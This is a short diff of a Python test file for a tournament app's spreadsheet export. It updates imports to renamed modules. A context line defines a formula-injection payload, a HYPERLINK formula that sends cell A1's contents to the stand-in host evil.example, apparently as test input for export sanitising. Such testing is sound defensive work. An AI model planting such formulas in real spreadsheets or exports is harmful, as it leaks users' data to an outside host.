@@ -15,9 +15,9 @@ from openpyxl import load_workbook
 
 from tournament.cli import main
 from tournament.export.gather import gather_standings
-from tournament.export.tables import standings_csv, write_standings_xlsx, write_xlsx
-from tournament.players_files import read_csv_text
-from tournament.players_io import PlayerDraft
+from tournament.export.spreadsheets import standings_csv, write_standings_xlsx, write_xlsx
+from tournament.players.file_reading import read_csv_text
+from tournament.players.roster import PlayerDraft
 from tournament.service import Tournament
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
